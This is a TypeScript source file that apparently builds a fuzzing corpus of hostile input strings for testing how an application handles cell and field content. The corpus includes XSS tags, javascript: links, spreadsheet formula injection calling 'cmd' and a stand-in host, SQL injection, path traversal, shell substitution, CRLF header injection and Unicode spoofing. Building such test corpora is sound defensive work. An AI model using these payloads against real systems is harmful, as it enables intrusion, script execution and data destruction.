/**
 * Texts that somebody could write in any cell, file or address, by family. `§` stands for a word that names the cell they are
 * put in, so that it is found wherever the text comes out; those without it are known by themselves.
 */
const combine = (firsts: readonly string[], seconds: readonly string[]): string[] =>
  firsts.flatMap((first) => seconds.map((second) => first + second))

const RUN = `top.touche='§'`
/** Ways to run a program, in an element of their own. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//mal.example/§.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<math><a xlink:href="javascript:${RUN}">§</a></math>`,
  `<form action="javascript:${RUN}"><button>§</button></form>`,
  `<base href="https://mal.example/§/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="//mal.example/§.css">`,
  `<style>@import "//mal.example/§.css"</style>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<details open ontoggle="${RUN}">§</details>`,
  `<input autofocus onfocus="${RUN}">`,
]
/** What would end the place a text stands in. */
const BEFORE = ['', '">', "'>", '</title>', '</textarea>', '--><!--', ']]>', '</script>']

const LINKS = combine(
  [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:https://mal.example/',
    'file:///etc/',
    '//mal.example/',
    'https://nom:mot@mal.example/',
    'https://mal.example\\@bon.example/',
    'feed:javascript:',
    'view-source:javascript:',
  ],
  ['§', `${RUN}//https://bon.example`],
)

const FORMULAS = combine(
  ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', "'=", '"=', ';='],
  ['cmd|"/C calc"!§', 'HYPERLINK("https://mal.example/§";"§")', '1+1§'],
)

const CALENDARS = [
  '§\r\nATTACH:https://mal.example/§',
  '§\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM',
  '§\r\n ATTENDEE:mailto:§@mal.example',
  '§\rEND:VEVENT\rBEGIN:VEVENT\rUID:§',
  '§\\nDTSTART:19700101T000000Z',
  '§;VALUE=URI:https://mal.example',
  '§:§,§;§',
  '§\u2028ORGANIZER:mailto:§@mal.example',
  '§\u0085RRULE:FREQ=SECONDLY',
  '\\§\\;\\,\\',
  `§ ${'é'.repeat(80)} ATTACH:§`,
  'END:VCALENDAR\r\n§',
]
const MACHINES = [
  '</script><script type="application/ld+json">{"§":1}',
  '§"},{"@type":"Event","name":"§"}',
  '<!--<script>§',
  '§</script ><b>',
  '§\u2028\u2029',
  '{"@context":"https://mal.example/§"}',
  '<![CDATA[§]]>',
  '§]]><§/>',
  '<!DOCTYPE a [<!ENTITY x "§">]>&x;',
  '<?xml version="1.0"?><§/>',
  '&lt;script&gt;§&lt;/script&gt;',
  '&amp;lt;b&amp;gt;§',
  '&#60;i&#62;§',
  '&§;',
  '&nbsp;§&Tab;&NewLine;',
  '§\\u003cscript\\u003e',
  '{{constructor.constructor("§")()}}',
  '$'.concat('{§}'),
  '#{§}',
  '<%= § %>',
  '{%§%}',
  '[[§]]',
  '{{§}}{0}%s%n',
  '<x-§>',
]
const INVISIBLE = [
  ...['\u202e', '\u202d', '\u2066', '\u2067', '\u200e', '\u200f', '\u061c'].map((sign) => `${sign}gpj.§`),
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e'].map((sign) => `§${sign}a`),
  ...['\0', '\u0007', '\b', '\u001b[31m', '\u007f', '\u0080', '\u009b', '\ufffe', '\uffff'].map(
    (sign) => `a${sign}§`,
  ),
  ...['\ud800', '\udfff', '\u{e0041}', '\u{1f3f4}\u{e0067}'].map((sign) => `${sign} §`),
  `§ ${'e\u0301'.repeat(200)}`,
  `§ ${'\u0300'.repeat(200)}`,
  '§ рaypal',
]
/** Words that every object of the language holds, or that a reader of data may take for one of its own. */
const WORDS = [
  'constructor',
  '__proto__',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'isPrototypeOf',
  'then',
  'length',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '[object Object]',
  '{"__proto__":{"§":1}}',
  '__proto__[§]=1',
  'constructor.prototype.§',
]
const NUMBERS = [
  '0',
  '-0',
  '00012345',
  '1e309',
  '0x1F',
  '1,5',
  '٣٤',
  '１２',
  '1_000',
  '9007199254740993',
  '−5',
]
const PROGRAMS = [
  `§'; DROP TABLE lieux; --`,
  `§" OR "1"="1`,
  `§' UNION SELECT 1--`,
  '../../§',
  '..\\..\\§',
  '/etc/§',
  'C:\\§',
  '\\\\mal.example\\§',
  'file.§\0.json',
  '~/§',
  '$(§)',
  '`§`',
  '| § ;',
  '%00§',
  '%3Cscript%3E§',
  '§%0d%0aSet-Cookie:a=b',
  '§\r\nLocation: https://mal.example',
  '§\r\n\r\n<html>',
  '§?a=b&c=d#e',
  '§|§||§',
  '§,§;§\t§',
  '§"§""§',
  "'§'§''",
]
const LONG = [
  `§${'m'.repeat(3000)}`,
  `§ ${'mot '.repeat(900)}`,
  `${'<b>'.repeat(900)}§`,
  `§${'('.repeat(3000)}`,
]

export const FAMILLES = {
  balises: combine(BEFORE.slice(0, 4), ELEMENTS),
  fins: combine(
    BEFORE.slice(4),
    ELEMENTS.filter((_, i) => i % 3 === 0),
  ),
  attributs: combine(
    ['" ', "' ", '\u00a0" ', '`', '/'],
    [`onmouseover="${RUN}" x="`, 'style="position:fixed" class=§ ', `autofocus onfocus=${RUN} `],
  ),
  liens: LINKS,
  formules: FORMULAS,
  agendas: CALENDARS,
  machines: MACHINES,
  invisibles: INVISIBLE,
  mots: WORDS,
  nombres: NUMBERS,
  programmes: PROGRAMS,
  longs: LONG,
} as const satisfies Readonly<Record<string, readonly string[]>>

/** All of them, in order. */
export const CHARGES: readonly string[] = Object.values(FAMILLES).flat()

/** The word of a cell: letters and digits, so that no reader has a reason to change it. */
export const mark = (charge: number, champ: number): string => `zq${charge}x${champ}zq`
/** A payload with the word of its cell. */
export const chargeAt = (charge: number, champ: number): string =>
  (CHARGES[charge % CHARGES.length] ?? '').replaceAll('§', mark(charge % CHARGES.length, champ))
